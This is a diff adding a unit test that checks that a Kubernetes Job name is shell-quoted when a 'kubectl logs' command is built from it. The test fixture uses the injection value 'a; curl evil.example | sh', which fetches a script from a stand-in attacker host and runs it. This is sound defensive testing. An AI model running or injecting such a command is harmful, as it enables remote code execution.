@@ -90,6 +90,13 @@ describe('the commands', () => {
     },
   );
 
+  test('quote the name of a Job, which a status can make up', () => {
+    const last = run(1, { jobName: 'a; curl evil.example | sh' });
+    expect(objectCommands(objectRow('prod/a'), cluster, last)[0]?.command).toBe(
+      "kubectl logs 'job/a; curl evil.example | sh' -n prod",
+    );
+  });
+
   test('of a CronJob are those of kubectl', () => {
     const row = objectRow('prod/a', { kind: 'CronJob' });
     expect(objectCommands(row, cluster, undefined).map(({ command }) => command)).toEqual([
